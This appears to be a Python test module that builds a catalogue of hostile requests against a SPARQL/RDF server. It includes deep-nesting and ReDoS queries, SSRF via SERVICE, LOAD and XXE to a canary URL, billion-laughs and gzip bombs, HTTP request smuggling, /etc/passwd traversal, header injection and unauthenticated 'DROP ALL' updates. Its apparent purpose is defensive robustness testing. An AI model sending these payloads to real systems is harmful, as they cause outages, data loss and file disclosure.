"""Requests that mean harm, each a name and what to send.

Nothing here is needed twice in the same form: an attack is a method, a path, headers and
a body, or raw bytes for what no HTTP library would send.
"""

from __future__ import annotations

import gzip
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import quote

QUERY = {"content-type": "application/sparql-query"}
UPDATE = {"content-type": "application/sparql-update"}
TURTLE = {"content-type": "text/turtle"}
XML = {"content-type": "application/rdf+xml"}
LD = {"content-type": "application/ld+json"}


@dataclass(frozen=True, slots=True)
class Attack:
    """One request; ``raw`` is written to a socket as it is."""

    name: str
    method: str = "POST"
    path: str = "/sparql"
    headers: dict[str, str] = field(default_factory=dict)
    body: bytes = b""
    raw: bytes = b""
    trusted: bool = False
    """Sent with a token that may write, so that it comes further."""


def query(name: str, text: str) -> Attack:
    return Attack(name, headers=QUERY, body=text.encode("utf-8", "surrogatepass"))


def update(name: str, text: str) -> Attack:
    return Attack(name, path="/update", headers=UPDATE, body=text.encode(), trusted=True)


def upload(name: str, body: bytes, headers: dict[str, str]) -> Attack:
    return Attack(name, "PUT", "/data?graph=urn:hostile", headers, body, trusted=True)


def nested(depth: int) -> Iterator[Attack]:
    """Depth of every kind that a parser or planner follows with its stack."""
    n = depth
    yield query("nested groups", "ASK " + "{" * n + "}" * n)
    yield query("nested groups, few spaces", "ASK{" + "{ " * n + "?s?p?o" + " }" * n + "}")
    yield query("nested OPTIONAL", "ASK { " + "OPTIONAL { " * n + "}" * n + " }")
    yield query("nested MINUS", "ASK { " + "?a ?b ?c MINUS { " * n + "}" * n + " }")
    yield query("nested NOT EXISTS", "ASK { " + "FILTER NOT EXISTS { " * n + "}" * n + " }")
    yield query("nested parentheses", "ASK { FILTER(" + "(" * n + "1" + ")" * n + ") }")
    yield query("nested path", "ASK { ?s " + "(" * n + "<urn:p>" + ")" * n + " ?o }")
    yield query("nested path stars", "ASK { ?s " + "(" * n + "<urn:p>" + ")*" * n + " ?o }")
    yield query("negations", "ASK { FILTER(" + "!" * n + "true) }")
    yield query("minus signs", "ASK { FILTER(" + "- " * n + "1 = 1) }")
    yield query("long sum", "ASK { FILTER(0 = 1" + "+1" * n + ") }")
    yield query("long sum with spaces", "ASK { FILTER(0 = 1" + " + 1" * n + ") }")
    yield query("long disjunction", "ASK { FILTER(true" + " || true" * n + ") }")
    yield query("long IN", "ASK { FILTER(1 IN (" + ",".join(["1"] * n) + ")) }")
    yield query("long union", "ASK { {}" + " UNION {}" * n + " }")
    yield query("long path sequence", "ASK { ?s <urn:p>" + "/<urn:p>" * n + " ?o }")
    yield query("long path alternative", "ASK { ?s <urn:p>" + "|<urn:p>" * n + " ?o }")
    yield query("nested lists", "ASK { ?s ?p " + "(" * n + ")" * n + " }")
    yield query("nested blank nodes", "ASK { ?s ?p " + "[ <urn:p> " * n + "1" + "]" * n + " }")
    yield query("nested sub-selects", "SELECT * { " + "{ SELECT * { " * n + "} }" * n + " }")
    yield query("nested binds", "ASK {" + "".join(f"BIND(1 AS ?v{i})" for i in range(n)) + "}")
    yield query("nested function calls", "ASK { FILTER(" + "STR(" * n + "1" + ")" * n + ") }")
    yield query("nested IF", "ASK { FILTER(" + "IF(true," * n + "1" + ",0)" * n + ") }")
    yield query("triple terms", "ASK { ?s ?p " + "<<( ?a ?b " * n + "1" + " )>>" * n + " }")
    yield query("reified triples", "ASK { " + "<< " * n + "?a ?b ?c" + " >> ?x ?y" * n + " }")
    yield query("depth written with escapes", "ASK " + "\\u007b" * n + "\\u007d" * n)
    yield query("depth after a comment", "ASK #{{{\n" + "{" * n + "}" * n)
    yield query(
        "less-than that looks like an IRI", "ASK{FILTER(?a<" + "(" * n + "1" + ")" * n + ")}"
    )


def greedy() -> Iterator[Attack]:
    """Memory and time without depth."""
    doubled = "".join(f" BIND(CONCAT(?v{i}, ?v{i}) AS ?v{i + 1})" for i in range(40))
    yield query("doubling strings", f'SELECT ?v40 {{ BIND("aaaaaaaa" AS ?v0){doubled} }}')
    ten = " ".join(str(i) for i in range(10))
    cross = "".join(f" VALUES ?v{i} {{ {ten} }}" for i in range(9))
    yield query("ordered cross product", f"SELECT * {{{cross} }} ORDER BY ?v8 ?v7 ?v1")
    yield query("counted cross product", f"SELECT (COUNT(*) AS ?n) {{{cross} }}")
    yield query("distinct cross product", f"SELECT DISTINCT * {{{cross} }}")
    yield query("joined strings", f"SELECT (GROUP_CONCAT(STR(?v1)) AS ?x) {{{cross} }}")
    yield query("endless rows", f"SELECT * {{{cross} }}")
    yield query("endless triples", f"CONSTRUCT {{ ?v1 <urn:p> [] }} WHERE {{{cross} }}")
    yield query("triple self-join", "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?i ?a")
    yield query(
        "paths from everything",
        "SELECT (COUNT(*) AS ?n) { ?a (<urn:p>|!<urn:x>)* ?b . ?b (<urn:p>|!<urn:y>)* ?c }",
    )
    yield query(
        "replaced strings",
        'SELECT (REPLACE(REPLACE("aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa","a","aaaaaaaaaaaaaaaa"),"a","bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb") AS ?x) {}',
    )
    yield query(
        "regular expression", 'SELECT * { FILTER(REGEX("' + "a" * 5000 + '!", "^(a+)+$")) }'
    )
    yield query(
        "counted repetition", 'SELECT * { FILTER(REGEX("aaa", "((a{1,100}){1,100}){1,100}")) }'
    )
    yield query("very long text", "ASK { # " + "x" * 400_000 + "\n }")
    yield query("very long IRI", "ASK { <urn:" + "x" * 90_000 + "> ?p ?o }")
    yield query("unclosed string", 'ASK { ?s ?p """' + "x" * 90_000)
    yield query("half a surrogate", "ASK { ?s ?p '\ud800' }")
    yield query("zero bytes", "ASK { ?s ?p '\0\0\0' }")
    yield query("many variables", "SELECT " + " ".join(f"?v{i}" for i in range(9000)) + " {}")
    yield query("many graphs", "SELECT * " + "FROM <urn:x> " * 5000 + "{ ?s ?p ?o }")


def outward(canary: str) -> Iterator[Attack]:
    """Ways to make the service call somebody."""
    yield query("SERVICE", f"SELECT * {{ SERVICE <{canary}/a> {{ ?s ?p ?o }} }}")
    yield query("SERVICE without spaces", f"SELECT*{{SERVICE<{canary}/b>{{?s?p?o}}}}")
    yield query("SERVICE SILENT", f"SELECT * {{ SERVICE SILENT <{canary}/c> {{ ?s ?p ?o }} }}")
    yield query("SERVICE by escape", f"SELECT * {{ ser\\u0076ice <{canary}/d> {{ ?s ?p ?o }} }}")
    yield query(
        "SERVICE by prefix", f"PREFIX x: <{canary}/> SELECT * {{ SERVICE x:e {{ ?s ?p ?o }} }}"
    )
    yield query(
        "SERVICE by variable",
        f"SELECT * {{ VALUES ?u {{ <{canary}/f> }} SERVICE SILENT ?u {{ ?s ?p ?o }} }}",
    )
    yield query("SERVICE by base", f"BASE <{canary}/> SELECT * {{ SERVICE <g> {{ ?s ?p ?o }} }}")
    yield query(
        "SERVICE behind a comment", f"SELECT * {{ SERVICE # <\n <{canary}/h> {{ ?s ?p ?o }} }}"
    )
    yield query("FROM as a fetch", f"SELECT * FROM <{canary}/i> {{ ?s ?p ?o }}")
    yield Attack(
        "dataset as a fetch",
        "GET",
        f"/sparql?query=ASK%7B%3Fs%3Fp%3Fo%7D&default-graph-uri={quote(canary + '/j')}",
    )
    yield update("LOAD", f"LOAD <{canary}/k>")
    yield update("LOAD SILENT", f"LOAD SILENT <{canary}/l> INTO GRAPH <urn:g>")
    yield update(
        "INSERT by SERVICE",
        f"INSERT {{ ?s ?p ?o }} WHERE {{ SERVICE <{canary}/m> {{ ?s ?p ?o }} }}",
    )
    yield upload("remote context", json.dumps({"@context": canary + "/n", "x": 1}).encode(), LD)
    yield upload(
        "imported context",
        json.dumps({"@context": {"@import": canary + "/o"}, "x": 1}).encode(),
        LD,
    )
    yield upload(
        "external entity",
        f'<!DOCTYPE r [<!ENTITY e SYSTEM "{canary}/p">]><r:RDF xmlns:r="http://www.w3.org/1999/02/22-rdf-syntax-ns#">&e;</r:RDF>'.encode(),
        XML,
    )
    yield upload("external definition", f'<!DOCTYPE r SYSTEM "{canary}/q"><r/>'.encode(), XML)
    yield Attack("description of a foreign thing", "GET", "/id/" + quote(canary, safe=""))
    yield Attack("foreign host", "GET", "/sparql", {"host": canary.removeprefix("http://")})


def bomb() -> bytes:
    """Two hundred megabytes in a few kilobytes."""
    return gzip.compress(b" " * (200 << 20), 9)


def documents(bomb: bytes) -> Iterator[Attack]:
    """Uploads that are larger, deeper or stranger than they look."""
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    yield upload(
        "billion laughs", f'<!DOCTYPE r [<!ENTITY l0 "ha">{laughs}]><r>&l9;</r>'.encode(), XML
    )
    yield upload("deep XML", b"<a>" * 50_000, XML)
    yield upload("deep JSON-LD", b'{"@graph":[' * 20_000 + b"]}" * 20_000, LD)
    yield upload("deep JSON-LD arrays", b'{"urn:p":' + b"[" * 100_000 + b"]" * 100_000 + b"}", LD)
    yield upload(
        "deep Turtle", b"<urn:a> <urn:b> " + b"[ <urn:p> " * 50_000 + b"1" + b"]" * 50_000, TURTLE
    )
    yield upload("deep collections", b"<urn:a> <urn:b> " + b"(" * 50_000 + b")" * 50_000, TURTLE)
    yield upload(
        "deep triple terms", b"<urn:a> <urn:b> " + b"<<( <urn:a> <urn:b> " * 20_000, TURTLE
    )
    yield upload("compressed bomb", bomb, {**TURTLE, "content-encoding": "gzip"})
    yield upload(
        "twice compressed", gzip.compress(bomb), {**TURTLE, "content-encoding": "gzip, gzip"}
    )
    yield upload("false gzip", b"\x1f\x8b" + b"\0" * 100, {**TURTLE, "content-encoding": "gzip"})
    yield upload("cut gzip", bomb[:1000], {**TURTLE, "content-encoding": "gzip"})
    many = gzip.compress(b"") * 200_000
    yield upload("gzip of many members", many, {**TURTLE, "content-encoding": "gzip"})
    yield Attack(
        "query in many gzip members",
        headers={**QUERY, "content-encoding": "gzip"},
        body=many[:400_000],
    )
    border = {"content-type": "multipart/form-data; boundary=x"}
    yield upload(
        "many parts", b"--x\r\ncontent-type: text/turtle\r\n\r\n\r\n" * 20_000 + b"--x--", border
    )
    yield upload(
        "endless part", b"--x\r\ncontent-type: text/turtle\r\n\r\n" + b"#" * 100_000, border
    )
    yield upload("part without headers", b"--x\r\n--x--", border)
    yield upload(
        "strange boundary",
        b"--x--",
        {"content-type": "multipart/form-data; boundary=" + "y" * 5000},
    )
    yield upload(
        "prefix bomb",
        b"@prefix a: <urn:" + b"x" * 100_000 + b"> . " + b"a:b a:c a:d, " * 5000,
        TURTLE,
    )


def http(port: int) -> Iterator[Attack]:
    """What HTTP itself can be made to do."""
    host = f"Host: 127.0.0.1:{port}\r\n".encode()
    get = b"GET /sparql?query=ASK%7B%7D HTTP/1.1\r\n" + host
    yield Attack(
        "header flood", raw=get + b"".join(b"X-%d: y\r\n" % i for i in range(5000)) + b"\r\n"
    )
    yield Attack("one huge header", raw=get + b"X: " + b"y" * 1_000_000 + b"\r\n\r\n")
    yield Attack(
        "huge request line", raw=b"GET /" + b"x" * 500_000 + b" HTTP/1.1\r\n" + host + b"\r\n"
    )
    yield Attack("no HTTP at all", raw=b"\x16\x03\x01\x02\x00\x01\x00" + bytes(range(256)))
    yield Attack("line breaks in a header", raw=get + b"X: a\rb\nc\r\n\r\n")
    yield Attack(
        "two lengths",
        raw=b"POST /sparql HTTP/1.1\r\n"
        + host
        + b"Content-Length: 5\r\nContent-Length: 50\r\n\r\nASK{}",
    )
    yield Attack(
        "length and chunks",
        raw=b"POST /sparql HTTP/1.1\r\n"
        + host
        + b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n",
    )
    yield Attack(
        "bad chunks",
        raw=b"POST /sparql HTTP/1.1\r\n"
        + host
        + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\nx",
    )
    yield Attack(
        "chunks of one byte",
        raw=b"PUT /data?graph=urn:hostile HTTP/1.1\r\n"
        + host
        + b"Content-Type: text/turtle\r\nTransfer-Encoding: chunked\r\n\r\n"
        + b"1\r\nx\r\n" * 2_000_000,
    )
    yield Attack("thousands of requests at once", raw=(get + b"\r\n") * 20_000)
    yield Attack(
        "negative length", raw=b"POST /sparql HTTP/1.1\r\n" + host + b"Content-Length: -1\r\n\r\n"
    )
    yield Attack(
        "a body that is announced and huge",
        raw=b"POST /sparql HTTP/1.1\r\n"
        + host
        + b"Content-Type: application/sparql-query\r\nContent-Length: 999999999999\r\n\r\nASK",
    )
    yield Attack("path traversal", raw=b"GET /../../../../etc/passwd HTTP/1.1\r\n" + host + b"\r\n")
    yield Attack("encoded traversal", "GET", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd")
    yield Attack("traversal below assets", "GET", "/assets/..%2f..%2f..%2f..%2fetc/passwd")
    yield Attack("traversal in a graph", "GET", "/data/..%2f..%2fetc/passwd")
    yield Attack("traversal in a thing", "GET", "/id/..%2f..%2fetc/passwd")
    yield Attack("zero byte in a path", "GET", "/assets/%00index.html")
    yield Attack("bytes that are no text", "GET", "/id/%ff%fe%00")
    yield Attack(
        "absolute target", raw=b"GET http://other.example/sparql HTTP/1.1\r\n" + host + b"\r\n"
    )
    yield Attack("tunnel", raw=b"CONNECT 127.0.0.1:22 HTTP/1.1\r\n" + host + b"\r\n")
    yield Attack("star", raw=b"OPTIONS * HTTP/1.1\r\n" + host + b"\r\n")
    yield Attack("upgrade", raw=get + b"Connection: Upgrade\r\nUpgrade: websocket\r\n\r\n")
    yield Attack("old protocol", raw=b"GET /sparql?query=ASK%7B%7D HTTP/0.9\r\n\r\n")
    yield Attack("script in a path", "GET", "/id/<script>alert(1)</script>")
    yield Attack("headers in a path", "GET", "/id/x%0d%0aSet-Cookie:%20a=b")
    yield Attack(
        "endless Accept",
        "GET",
        "/sparql?query=ASK%7B%7D",
        {"accept": ",".join(["a/b;q=0.1"] * 5000)},
    )
    yield Attack(
        "ten thousand parameters", "GET", "/sparql?query=ASK%7B%7D&" + "&".join(["a=1"] * 10_000)
    )
    yield Attack(
        "range of an answer", "GET", "/sparql?query=ASK%7B%7D", {"range": "bytes=0-0,0-0,0-0"}
    )
    yield Attack("method of nobody", "BREW", "/sparql")
    yield Attack("tampered tag", "GET", "/sparql?query=ASK%7B%7D", {"if-none-match": '"' * 5000})


def smuggled() -> Iterator[Attack]:
    """Writes that come as something else, or without the token."""
    drop = "DROP ALL"
    yield query("update as a query", drop)
    yield query("update after a query", f"ASK {{}} ; {drop}")
    yield query("update behind a prologue", f"PREFIX ask: <urn:x> {drop}")
    yield query("update by escapes", "\\u0044ROP ALL")
    yield Attack("update by GET", "GET", f"/update?update={quote(drop)}")
    yield Attack(
        "update as a parameter of a query", "GET", f"/sparql?query=ASK%7B%7D&update={quote(drop)}"
    )
    form = {"content-type": "application/x-www-form-urlencoded"}
    yield Attack(
        "update in the form of a query", headers=form, body=b"update=" + quote(drop).encode()
    )
    yield Attack(
        "update as text", path="/update", headers={"content-type": "text/plain"}, body=drop.encode()
    )
    yield Attack(
        "method by header", "GET", "/data?graph=urn:kept", {"x-http-method-override": "DELETE"}
    )
    yield Attack("update without a token", path="/update", headers=UPDATE, body=drop.encode())
    for name, value in (
        ("empty token", "Bearer "),
        ("guessed token", "Bearer aaaaaaaaaaaaaaaaaaaaaaaa"),
        ("token of another kind", "Basic b3BlcmF0b3I6b3BlcmF0b3I="),
        ("endless token", "Bearer " + "a" * 30_000),
        ("token as a pattern", "Bearer .*"),
    ):
        yield Attack(
            name, path="/update", headers={**UPDATE, "authorization": value}, body=drop.encode()
        )
    yield Attack("delete without a token", "DELETE", "/data?graph=urn:kept")
    yield Attack("replace without a token", "PUT", "/data?graph=urn:kept", TURTLE, b"")


def all_attacks(port: int, canary: str, bomb: bytes = b"") -> list[Attack]:
    """Every attack; without a bomb those that hold it harm nobody, but have their names."""
    return [
        *nested(4_000),
        *greedy(),
        *outward(canary),
        *documents(bomb),
        *http(port),
        *smuggled(),
    ]
